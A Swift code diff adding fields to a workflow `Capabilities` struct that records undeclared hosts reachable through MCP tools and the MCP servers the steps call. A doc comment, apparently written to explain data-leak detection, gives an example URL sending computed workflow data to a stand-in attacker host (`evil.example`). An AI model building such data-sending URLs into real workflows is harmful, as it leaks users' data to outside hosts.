@@ -65,6 +65,26 @@ public struct Capabilities: Sendable, Hashable, Encodable {
     public var steps: [StepReference]
   }
 
+  /// Steps whose actions may contact hosts they do not name, as someone other than flow says (an MCP
+  /// tool whose server gives `openWorldHint`, or no annotations): which hosts, only that one knows.
+  public struct UndeclaredHosts: Sendable, Hashable, Encodable {
+    /// Who says so: "the server 'time'".
+    public var claimedBy: String
+    /// Whether the steps pass them values the run computes (which may then go on to those hosts).
+    public var sendsComputed: Bool
+    public var steps: [StepReference]
+  }
+
+  /// An MCP server the workflow's steps call tools of, with what it starts on this machine.
+  public struct ServerUse: Sendable, Hashable, Encodable {
+    /// The name the steps write before the tool (`time` in `time.get_current_time`).
+    public var name: String
+    /// What config.yml here says the name starts (a command line, or a URL); nil when no server of that
+    /// name is configured here: then its steps can be neither checked nor run.
+    public var command: String?
+    public var steps: [StepReference]
+  }
+
   /// A workflow this one runs with `run-workflow`.
   public struct WorkflowRun: Sendable, Hashable, Encodable {
     /// As written in the step; a computed reference is shown as written (`${choice}`).
@@ -125,6 +145,10 @@ public struct Capabilities: Sendable, Hashable, Encodable {
   public var hosts: [HostAccess] = []
   /// Steps whose URL is computed at run time: they may contact any host.
   public var anyHost: [StepReference] = []
+  /// Steps that may contact hosts they do not name, by who says so, in the order the steps meet them.
+  public var undeclaredHosts: [UndeclaredHosts] = []
+  /// The MCP servers whose tools the steps call, in the order the steps meet them.
+  public var servers: [ServerUse] = []
   /// Hosts written out in URLs whose path or query the run computes (`https://evil.example/c?d=${previous}`):
   /// what the workflow holds goes to them, in the URL. Each host is also under ``hosts``.
   public var dataSent: [HostAccess] = []
